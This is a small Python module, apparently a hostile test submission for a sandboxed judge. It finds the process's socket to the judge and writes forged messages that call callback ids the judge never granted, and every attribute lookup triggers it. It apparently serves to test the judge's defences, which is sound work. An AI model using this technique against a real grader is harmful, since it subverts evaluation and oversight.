"""Calls functions the judge never handed out."""

import os, socket, stat, struct
def channel():
    """The descriptor that leads to the judge: the only stream socket this process holds."""
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1
def evil(*args):
    for number in (0, 1, 2**31):
        data = b"l\0\0\0\3s\0\0\0\x08callbackq" + struct.pack(">q", number) + b"l\0\0\0\0"
        os.write(channel(), struct.pack(">I", len(data)) + data)
    return 0

__getattr__ = lambda name: evil
